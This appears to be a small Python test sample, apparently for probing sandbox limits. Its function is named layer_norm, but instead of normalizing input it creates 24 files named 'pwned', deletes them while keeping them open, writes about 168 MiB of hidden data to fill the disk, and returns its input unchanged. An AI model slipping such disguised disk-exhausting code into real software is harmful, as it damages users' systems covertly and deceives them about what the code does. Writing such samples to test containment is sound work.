"""Deletes the files that fill the disk, and keeps them open: no folder lists them any more.

Unconfined: never, nothing but the descriptors limit what it writes
Outcome: filled the disk
"""

import os
import time


def layer_norm(x, gamma, beta, eps=1e-5):
    held = []
    for number in range(24):
        held.append(open(f"pwned-{number}", "wb", buffering=0))
        os.unlink(f"pwned-{number}")
        held[-1].write(bytes(7 << 20))
    time.sleep(0.5)
    return x
